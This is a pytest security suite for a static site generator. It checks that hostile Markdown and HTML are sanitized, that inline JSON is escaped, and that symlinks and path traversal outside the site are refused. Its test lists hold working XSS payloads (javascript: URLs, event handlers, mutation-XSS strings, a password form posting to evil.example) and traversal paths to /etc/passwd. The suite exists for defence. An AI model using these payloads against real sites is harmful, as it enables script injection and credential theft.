"""Hostile content and hostile paths let nothing in: sanitized HTML, escaped JSON, http(s) sources, no file
read from outside the site folder, no folder replaced that sitegen did not write (docs/security.md)."""

from __future__ import annotations

import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from conftest import copy_site, html, tree_bytes, write
from sitegen.build import build
from sitegen.load.config import load_config
from sitegen.diagnostics import Diagnostics
from sitegen.load.markup import IFRAME_SANDBOX, SAFE, MarkupPolicy, render_markdown, sanitize
from sitegen.render.renderer import Renderer
from sitegen.load.sources import SourceFile, find_sources, parse_source
from sitegen.render.theming import find_theme
from sitegen.output import MARKER, OutputProblem, OutputWriter, check_output_folder

ARTICLE = "content/articles/2022/04/kharkiv-shelling.md"
ARTICLE_PAGE = "articles/kharkiv-shelling/index.html"
EMBEDS = MarkupPolicy(embeds=("www.youtube-nocookie.com", "player.vimeo.com"))
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "data", "poster", "srcset", "background",
                  "xlink:href", "ping", "longdesc", "manifest", "codebase"}
FORBIDDEN_TAGS = {"script", "style", "form", "input", "button", "textarea", "select", "object", "embed",
                  "applet", "base", "meta", "link", "svg", "math", "template", "frame", "frameset", "audio",
                  "video", "source", "noscript", "dialog", "portal", "xmp", "plaintext", "noembed"}


# -- what "harmless" means, checked on the output as a browser would tokenize it --------------------------

class _Tags(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _scheme(url: str) -> str | None:
    """The scheme a browser reads (WHATWG URL: outer C0 controls and spaces, inner tabs and newlines ignored)."""
    match = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\t\n\r]", "", url.strip("\x00- ")).lower())
    return match.group(1) if match else None


def assert_harmless(fragment: str, embeds: tuple[str, ...] = ()) -> None:
    """No element, attribute or URL in ``fragment`` can run script, submit data or frame an unknown page."""
    parser = _Tags()
    parser.feed(fragment)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in FORBIDDEN_TAGS, (tag, fragment)
        names = {name for name, _ in attrs}
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, fragment)
            assert name not in {"style", "srcdoc", "formaction", "action", "target", "http-equiv"}, (name, fragment)
            if name in URL_ATTRIBUTES and value:
                assert _scheme(value) in SAFE_SCHEMES | {None}, (tag, name, value, fragment)
        if tag == "iframe":
            src = dict(attrs).get("src") or ""
            match = re.fullmatch(r"https://([^/:?#]+)(?::443)?(?:[/?#].*)?", src)
            assert match and match.group(1).lower() in embeds, (src, fragment)
            assert dict(attrs).get("sandbox") == IFRAME_SANDBOX, fragment
            assert "allow-top-navigation" not in dict(attrs)["sandbox"]
            assert dict(attrs).get("loading") == "lazy", fragment
            assert names <= {"src", "width", "height", "title", "allow", "allowfullscreen", "sandbox", "loading",
                             "referrerpolicy"}, fragment
    assert not re.search(r"<\s*/?\s*(script|style|form|object|embed)\b", fragment, re.IGNORECASE), fragment


HOSTILE = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover=alert(1) target=_blank>x</a>',
    '<a/href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '![x](javascript:alert(1))',
    '<q cite="javascript:alert(1)">q</q>',
    '<blockquote cite="data:text/html,x">b</blockquote>',
    '<form action="https://evil.example/collect"><input name=password><button>Send</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<style>body{background:url(javascript:alert(1))}</style>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<!--<script>alert(1)</script>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><script>alert(1)</script></template>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
    '<img src="x" alt="a" srcset="javascript:alert(1) 1x">',
    '<p>a</p><scr<script>ipt>alert(1)</script>',
    '<<script>script>alert(1)<</script>/script>',
    '<div id="x"><a href="https://ok.example/" rel="opener">x</a></div>',
    '<textarea><script>alert(1)</script></textarea>',
    '<xmp><script>alert(1)</script></xmp>',
    '<plaintext><script>alert(1)</script>',
]


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("policy", [SAFE, EMBEDS], ids=["default", "with-embeds"])
def test_hostile_html_in_markdown_is_made_harmless(payload, policy):
    for text in (payload, f"Before {payload} after", f"- item\n- {payload}\n\n> {payload}"):
        assert_harmless(render_markdown(text, policy), policy.embeds)


def test_scripts_event_handlers_forms_and_unknown_iframes_are_removed_with_their_content():
    out = render_markdown('Text <script>alert("x")</script><iframe src="https://evil.example/">fallback</iframe>'
                          '<b onclick="steal()">bold</b> end')
    assert out == "<p>Text <b>bold</b> end</p>"


_PIECES = st.sampled_from([
    "<", ">", "</", "/>", "=", '"', "'", "`", " ", "\n", "\n\n", "&", "&#", "&#x", ";", "#", "*", "[", "](", ")",
    "!", "<!--", "-->", "<![CDATA[", "]]>", "script", "SCRIPT", "iframe", "img", "a", "svg", "style", "form",
    "href", "src", "srcdoc", "cite", "onerror", "onload", "javascript:", "java\tscript:", "data:", "vbscript:",
    "alert(1)", "https://www.youtube-nocookie.com/embed/x", "https://evil.example/", "www.youtube-nocookie.com",
    "@", "\\", "sandbox", "allow-top-navigation", "<script>", "</script>", "<iframe ", "</iframe>", "<a href=",
    "<img src=", "<p>", "</p>", "<div>", "    ", "```", "\u2028", "\x00", "Київ",
])


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, min_size=1, max_size=40).map("".join), st.sampled_from([SAFE, EMBEDS]))
def test_any_mix_of_hostile_fragments_comes_out_harmless(text, policy):
    assert_harmless(render_markdown(text, policy), policy.embeds)
    assert_harmless(sanitize(text, policy), policy.embeds)


# -- embeds --------------------------------------------------------------------------------------------

def test_an_iframe_from_an_allowed_host_is_kept_sandboxed_and_lazy_with_only_safe_attributes():
    out = render_markdown(
        '<iframe src="https://www.youtube-nocookie.com/embed/abc?start=5&amp;rel=0" width="560" height="315" '
        'title="Briefing" allow="accelerometer; autoplay; encrypted-media; fullscreen" allowfullscreen '
        'sandbox="allow-top-navigation allow-forms" onload="alert(1)" style="position:fixed" name="x" '
        'srcdoc="<b>x</b>" referrerpolicy="unsafe-url" loading="eager"></iframe>', EMBEDS)
    frame = lxml.html.fragment_fromstring(out)
    assert frame.tag == "iframe"
    assert dict(frame.attrib) == {
        "src": "https://www.youtube-nocookie.com/embed/abc?start=5&rel=0", "width": "560", "height": "315",
        "title": "Briefing", "allow": "encrypted-media; fullscreen", "allowfullscreen": "",
        "sandbox": IFRAME_SANDBOX, "loading": "lazy", "referrerpolicy": "strict-origin-when-cross-origin",
    }


@pytest.mark.parametrize("src", [
    "http://www.youtube-nocookie.com/embed/abc",  # not https
    "https://www.youtube-nocookie.com.evil.example/embed/abc",
    "https://evil.example/www.youtube-nocookie.com/embed/abc",
    "https://evil.example/?u=https://www.youtube-nocookie.com/",
    "https://www.youtube-nocookie.com@evil.example/",
    "https://evil.example\\@www.youtube-nocookie.com/",
    "https://evil.example%2f@www.youtube-nocookie.com/",
    "https://user:pass@www.youtube-nocookie.com/embed/abc",
    "https://www.youtube-nocookie.com:8443/embed/abc",
    "//www.youtube-nocookie.com/embed/abc",
    "/embed/abc",
    "javascript:alert(1)//https://www.youtube-nocookie.com/",
    "data:text/html,<script>alert(1)</script>",
    "https://www.youtube-nocookie.com/embed/abc\n",
    " https://www.youtube-nocookie.com/embed/abc",
    "https://youtube-nocookie.com/embed/abc",  # another host than the one allowed
    "",
])
def test_an_iframe_not_plainly_https_on_an_allowed_host_is_removed(src):
    out = render_markdown(f'Before <iframe src="{src}" width="1">fallback</iframe> after', EMBEDS)
    assert "iframe" not in out and "fallback" not in out, out
    assert out.startswith("<p>Before") and out.endswith("after</p>")


def test_an_allowed_host_is_matched_whatever_its_case_and_on_port_443():
    for src in ("https://WWW.YouTube-NoCookie.com/embed/abc", "https://player.vimeo.com:443/video/1"):
        out = render_markdown(f'<iframe src="{src}"></iframe>', EMBEDS)
        assert f'src="{src}"' in out


def test_without_embeds_every_iframe_is_removed():
    out = render_markdown('<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>')
    assert "iframe" not in out


def test_a_tag_inside_an_attribute_value_is_not_taken_for_an_iframe():
    out = render_markdown('<a title="<iframe src=&quot;https://evil.example/&quot;>" href="https://ok.example/">'
                          'x</a> <iframe src="https://player.vimeo.com/video/1"></iframe>', EMBEDS)
    assert_harmless(out, EMBEDS.embeds)
    assert out.count("<iframe") == 1 and 'href="https://ok.example/"' in out


def test_unsafe_html_publishes_raw_html_unsanitized():
    raw = '<script>window.chart()</script>\n\n<iframe src="https://charts.example/x"></iframe>'
    out = render_markdown(raw, MarkupPolicy(unsafe_html=True))
    assert "<script>window.chart()</script>" in out and '<iframe src="https://charts.example/x">' in out


def _site_yaml(site: Path, extra: str) -> None:
    path = site / "content/site.yaml"
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")


def test_site_yaml_embeds_and_unsafe_html_are_read_and_checked(site):
    _site_yaml(site, "embeds: [www.youtube-nocookie.com, Player.Vimeo.com]\nunsafe_html: false\n")
    config = load_config(site, Diagnostics())
    assert config.markup == MarkupPolicy(("www.youtube-nocookie.com", "player.vimeo.com"), False)

    _site_yaml(site, "")
    text = (site / "content/site.yaml").read_text(encoding="utf-8")
    for bad, message in [
        ("embeds: [https://www.youtube-nocookie.com/embed/]",
         "must be a host name such as www.youtube-nocookie.com, not 'https://www.youtube-nocookie.com/embed/'; "
         "write the host alone, e.g. 'www.youtube-nocookie.com'"),
        ("embeds: {youtube: yes}", "'embeds' must be a list of host names"),
        ("embeds: [example.org]", "'embeds' must not list the site's own host example.org"),
        ("unsafe_html: sometimes", "'unsafe_html' must be true or false"),
    ]:
        (site / "content/site.yaml").write_text(text.replace("embeds: [www.youtube-nocookie.com, Player.Vimeo.com]"
                                                             "\nunsafe_html: false\n", bad + "\n"), encoding="utf-8")
        diagnostics = Diagnostics()
        assert load_config(site, diagnostics) is None
        assert any(message in p.message and p.line == 5 for p in diagnostics.problems), (bad, diagnostics.problems)


EMBED_BODY = ('\nBefore the video.\n\n<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Briefing">'
              '</iframe>\n\n<script>alert(1)</script>\n')


def _frames(page: Path) -> list:
    return html(page).xpath("//main//iframe")


def test_the_site_policy_reaches_the_pages_and_a_policy_change_reparses_cached_files(site):
    """A cached parse made under one policy is not reused under another (the parse cache's key)."""
    write(site / ARTICLE, (site / ARTICLE).read_text(encoding="utf-8") + EMBED_BODY)
    assert build(site, use_cache=True).ok
    assert _frames(site / "public" / ARTICLE_PAGE) == []

    _site_yaml(site, "embeds: [www.youtube-nocookie.com]\n")
    assert build(site, use_cache=True).ok
    frames = _frames(site / "public" / ARTICLE_PAGE)
    assert [f.get("src") for f in frames] == ["https://www.youtube-nocookie.com/embed/abc"]
    assert frames[0].get("sandbox") == IFRAME_SANDBOX and frames[0].get("loading") == "lazy"
    assert "alert(1)" not in (site / "public" / ARTICLE_PAGE).read_text(encoding="utf-8")

    _site_yaml(site, "unsafe_html: true\n")
    assert build(site, use_cache=True).ok
    assert "<script>alert(1)</script>" in (site / "public" / ARTICLE_PAGE).read_text(encoding="utf-8")


# -- escaping: templates and inline JSON ---------------------------------------------------------------

def _json_script(site: Path):
    config = load_config(site, Diagnostics())
    return Renderer(find_theme(site, config.theme), config, {}, site).env.filters["json_script"]


HOSTILE_STRINGS = [
    "</script><script>alert(1)</script>",
    "</SCRIPT ><img src=x onerror=alert(1)>",
    "<!--<script>",
    "<!-- unclosed comment",
    "-->",
    "]]><script>alert(1)</script>",
    "a\u2028b\u2029c",
    "&lt;/script&gt; & \\u003c",
    "\"}]});alert(1);//",
    "\x00\x1f\ud7ff\ue000\U0001f600",
]


@pytest.mark.parametrize("value", HOSTILE_STRINGS)
def test_json_script_cannot_break_out_of_its_script_element(site, value):
    json_script = _json_script(site)
    data = {"name": value, "list": [value, {"k": value}], value[:5]: 1}
    out = str(json_script(data))
    assert "<" not in out and ">" not in out and "&" not in out
    assert "\u2028" not in out and "\u2029" not in out
    assert json.loads(out) == data
    page = f'<html><head><script type="application/ld+json">{out}</script></head><body><p>x</p></body></html>'
    parser = _Tags()
    parser.feed(page)
    assert [tag for tag, _ in parser.tags] == ["html", "head", "script", "body", "p"]


def test_a_hostile_title_is_escaped_in_the_page_and_its_json_ld(site):
    title = 'Shelling </script><script>alert(1)</script> <!-- "quoted" & \u2028'
    text = (site / ARTICLE).read_text(encoding="utf-8").replace("title: Shelling in Харків",
                                                                 f"title: {json.dumps(title)}")
    write(site / ARTICLE, text)
    result = build(site, use_cache=False)
    assert result.ok, result.problems
    page = site / "public" / ARTICLE_PAGE
    tree = html(page)
    assert tree.xpath("string(//h1)").strip() == title.strip()
    scripts = tree.xpath("//script")
    assert all(s.get("type") == "application/ld+json" or s.get("src") for s in scripts)
    found = []
    for script in tree.xpath("//script[@type='application/ld+json']"):
        _strings(json.loads(script.text), found)
    assert title.strip() in found
    assert "<script>alert(1)" not in page.read_text(encoding="utf-8")


def _strings(value, out: list) -> None:
    if isinstance(value, str):
        out.append(value)
    elif isinstance(value, dict):
        for item in value.values():
            _strings(item, out)
    elif isinstance(value, list):
        for item in value:
            _strings(item, out)


# -- source URLs and archive paths ---------------------------------------------------------------------

@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)//https://x", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "ftp://example.org/x", "file:///etc/passwd", "//evil.example/x", "/relative/path",
    "http:/missing-slash", "https://", "https://exa mple.org/", "mailto:a@example.org",
])
def test_a_source_url_must_be_an_absolute_http_link(site, url):
    text = (site / ARTICLE).read_text(encoding="utf-8")
    text = re.sub(r"  url: .*", f"  url: {json.dumps(url)}", text)
    write(site / ARTICLE, text)
    parsed = parse_source(site, SourceFile("article", ARTICLE))
    assert parsed.records == ()
    assert [(p.line, p.severity) for p in parsed.problems if "source url" in p.message] == [(6, "error")]


@pytest.mark.parametrize("archive", ["../../etc/passwd", "/etc/passwd", "sources/../../../x.txt", "C:/x.txt",
                                     "sources\\x.txt", "sources//x.txt", "./x.txt"])
def test_an_archive_path_must_stay_inside_content(site, archive):
    text = (site / ARTICLE).read_text(encoding="utf-8")
    text = text.replace("  url: ", f"  archive: {json.dumps(archive)}\n  url: ")
    write(site / ARTICLE, text)
    parsed = parse_source(site, SourceFile("article", ARTICLE))
    assert parsed.records == ()
    assert any("archive path" in p.message and p.line == 6 for p in parsed.problems), parsed.problems


# -- nothing is read from outside the site folder -------------------------------------------------------

@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the site holding a 'secret' and a perfectly valid article."""
    folder = tmp_path / "outside"
    write(folder / "secret.txt", "root:x:0:0:SECRET-OUTSIDE-THE-SITE\n")
    write(folder / "articles/leak.md", "---\ntitle: SECRET-OUTSIDE-THE-SITE\ndate: 2022-05-01\nsource:\n  outlet: X\n"
          "  url: https://example.org/x\n---\nSECRET-OUTSIDE-THE-SITE\n")
    return folder


def _nothing_leaked(site: Path) -> None:
    for folder in (site / "public", site / ".sitegen-cache"):
        for path in folder.rglob("*") if folder.exists() else ():
            if path.is_file():
                assert b"SECRET-OUTSIDE-THE-SITE" not in path.read_bytes(), path


def _build_fails_naming(site: Path, rel: str, target: Path) -> None:
    before = tree_bytes(site / "public")
    result = build(site)
    assert not result.ok
    messages = [p for p in result.problems if p.path == rel and p.severity == "error"]
    assert messages and f"a symbolic link to {target.resolve()}, outside the site folder" in messages[0].message
    assert all("SECRET" not in p.format() for p in result.problems)
    assert tree_bytes(site / "public") == before
    _nothing_leaked(site)


@pytest.fixture
def good(site: Path) -> Path:
    assert build(site).ok
    return site


def test_an_article_that_links_to_a_file_outside_the_site_is_an_error_and_never_read(good, outside):
    (good / "content/articles/leak.md").symlink_to(outside / "articles/leak.md")
    _build_fails_naming(good, "content/articles/leak.md", outside / "articles/leak.md")


def test_an_article_that_links_to_etc_passwd_is_an_error(good):
    (good / "content/articles/passwd.md").symlink_to("/etc/passwd")
    _build_fails_naming(good, "content/articles/passwd.md", Path("/etc/passwd"))


def test_a_linked_folder_of_articles_outside_the_site_is_an_error(good, outside):
    (good / "content/articles/more").symlink_to(outside / "articles")
    _build_fails_naming(good, "content/articles/more", outside / "articles")


def test_a_content_articles_folder_linked_elsewhere_is_an_error(good, outside):
    (good / "content/articles").rename(good / "articles-moved")
    (good / "content/articles").symlink_to(outside / "articles")
    _build_fails_naming(good, "content/articles", outside / "articles")


def test_a_content_folder_linked_elsewhere_is_an_error(good, tmp_path):
    (good / "content").rename(tmp_path / "content-elsewhere")
    (good / "content").symlink_to(tmp_path / "content-elsewhere")
    diagnostics = Diagnostics()
    assert load_config(good, diagnostics) is None
    assert "outside the site folder" in diagnostics.problems[0].message
    diagnostics = Diagnostics()
    assert find_sources(good, diagnostics) == []
    assert [p.path for p in diagnostics.problems] == ["content"]


def test_site_yaml_and_speakers_yaml_linked_outside_are_errors(good, outside):
    (good / "content/speakers.yaml").unlink()
    (good / "content/speakers.yaml").symlink_to(outside / "secret.txt")
    _build_fails_naming(good, "content/speakers.yaml", outside / "secret.txt")
    (good / "content/site.yaml").rename(outside / "site.yaml")
    (good / "content/site.yaml").symlink_to(outside / "site.yaml")
    _build_fails_naming(good, "content/site.yaml", outside / "site.yaml")


def test_links_inside_the_site_are_followed_for_files_but_not_for_folders(good):
    (good / "content/articles/alias").symlink_to(good / "content/articles/2022")
    shared = write(good / "shared/kyiv-briefing.md", "---\ntitle: Kyiv briefing\ndate: 2022-05-02\nsource:\n"
                   "  outlet: X\n  url: https://example.org/kyiv\n---\nBody.\n")
    (good / "content/articles/kyiv-briefing.md").symlink_to(shared)
    result = build(good)
    assert result.ok, result.problems
    assert (good / "public/articles/kyiv-briefing/index.html").is_file()
    assert [p.message for p in result.problems if p.path == "content/articles/alias"] == [
        "ignored: a symbolic link to a folder (sitegen does not follow linked folders); move the folder here instead"]


def test_a_fifo_in_content_is_never_opened(good):
    os.mkfifo(good / "content/articles/blocked.md")
    result = build(good)  # would hang forever if the FIFO were read
    assert result.ok
    assert [p.message for p in result.problems if p.path == "content/articles/blocked.md"] == [
        "ignored: not a regular file"]


def _site_theme(site: Path) -> Path:
    folder = site / "themes/default"
    folder.mkdir(parents=True)
    return folder


def test_a_theme_template_linked_outside_the_site_is_an_error_and_never_rendered(good, outside):
    templates = _site_theme(good) / "templates"
    templates.mkdir()
    (templates / "base.html").symlink_to(outside / "secret.txt")
    _build_fails_naming(good, "themes/default/templates/base.html", outside / "secret.txt")


def test_a_theme_static_file_linked_outside_the_site_is_an_error_and_never_published(good, outside):
    static = _site_theme(good) / "static"
    static.mkdir()
    (static / "passwd.txt").symlink_to(outside / "secret.txt")
    _build_fails_naming(good, "themes/default/static/passwd.txt", outside / "secret.txt")
    assert "passwd.txt" not in find_theme(good, "default").files("static")


def test_a_theme_templates_folder_linked_outside_the_site_is_an_error(good, outside):
    (_site_theme(good) / "templates").symlink_to(outside)
    _build_fails_naming(good, "themes/default/templates", outside)


def test_a_theme_folder_linked_outside_the_site_is_an_error(good, outside):
    (good / "themes").mkdir()
    (good / "themes/default").symlink_to(outside)
    _build_fails_naming(good, "themes/default", outside)


def test_a_theme_file_linked_inside_the_site_is_used(good):
    write(good / "shared/style.css", "body { color: #123456 }\n")
    static = _site_theme(good) / "static"
    static.mkdir()
    (static / "extra.css").symlink_to(good / "shared/style.css")
    result = build(good)
    assert result.ok, result.problems
    assert any(b"#123456" in path.read_bytes() for path in (good / "public").rglob("extra*.css"))


# -- the output folder: sitegen replaces only what it wrote --------------------------------------------

def _refused(site: Path, output: Path, expected: str) -> None:
    before = {p: p.stat().st_mtime_ns for p in output.rglob("*")} if output.is_dir() and output != Path("/") else None
    result = build(site, output, use_cache=False)
    assert not result.ok
    assert any(expected in p.message for p in result.problems), result.problems
    if before is not None:
        assert {p: p.stat().st_mtime_ns for p in output.rglob("*")} == before
    assert not list(output.parent.glob(f".{output.name}.sitegen-*"))


def test_the_output_cannot_be_the_site_folder_what_it_reads_or_a_folder_it_is_in(site):
    write(site / "themes/default/templates/extra.html", "{{ page.title }}")
    (site / ".sitegen-cache").mkdir()
    site_bytes = tree_bytes(site)
    _refused(site, site, "is the site folder")
    _refused(site, site / "content", "is the content folder")
    _refused(site, site / "themes", "is the themes folder")
    _refused(site, site / ".sitegen-cache", "is the build cache")
    _refused(site, site / "content/articles", "is inside the content folder")
    _refused(site, site / "themes/default", "is inside the themes folder")
    _refused(site, site.parent, "holds the site folder itself")
    assert tree_bytes(site) == site_bytes


def test_an_empty_content_or_themes_folder_is_refused_as_well(tmp_path):
    site = copy_site("basic", tmp_path)
    (site / "themes").mkdir()
    _refused(site, site / "themes", "is the themes folder")
    _refused(site, site / "content/new-folder", "is inside the content folder")
    assert not (site / "content/new-folder").exists()


def test_an_output_given_with_dotdot_is_judged_where_it_leads(site, tmp_path):
    victim = tmp_path / "victim"
    write(victim / "precious.txt", "keep me")
    result = build(site, tmp_path / "missing" / ".." / "victim", use_cache=False)
    assert not result.ok and any("holds files that sitegen did not write" in p.message for p in result.problems)
    assert (victim / "precious.txt").read_text() == "keep me"
    assert not (tmp_path / "missing").exists()
    content_bytes = tree_bytes(site / "content")
    result = build(site, site / "x" / ".." / "content", use_cache=False)
    assert not result.ok and any("is the content folder" in p.message for p in result.problems)
    assert tree_bytes(site / "content") == content_bytes


def test_the_output_cannot_be_the_home_folder_even_when_empty(site, tmp_path, monkeypatch):
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    _refused(site, home, "is the home folder")
    assert list(home.iterdir()) == []


def test_the_output_cannot_be_the_root_folder(site):
    with pytest.raises(OutputProblem, match="holds files that sitegen did not write"):
        check_output_folder(Path("/"))
    result = build(site, Path("/"))
    assert not result.ok and any("holds the site folder itself" in p.message for p in result.problems)


def test_the_output_cannot_be_a_file_or_a_link(site, tmp_path):
    file = write(tmp_path / "out.txt", "keep me")
    _refused(site, file, "exists and is not a folder")
    assert file.read_text() == "keep me"
    folder = tmp_path / "real"
    assert build(site, folder).ok
    link = tmp_path / "link"
    link.symlink_to(folder)
    _refused(site, link, "is a symbolic link")


def test_an_empty_folder_becomes_the_output_and_a_marked_one_is_replaced(site, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert build(site, empty).ok
    assert (empty / MARKER).is_file()
    write(empty / "stray.html", "left by hand")
    assert build(site, empty, use_cache=False).ok  # the marker says the folder is sitegen's: replaced whole
    assert not (empty / "stray.html").exists()


@pytest.mark.parametrize("rel", ["../escape.html", "/etc/passwd", "a/../../b", "a/..", "..", "a\\..\\b"])
def test_the_writer_refuses_paths_outside_its_output(tmp_path, rel):
    output = tmp_path / "out"
    with OutputWriter(output) as writer:
        with pytest.raises(OutputProblem, match="refusing to write outside the output folder"):
            writer.write(rel, b"x")
    assert not (tmp_path / "escape.html").exists()
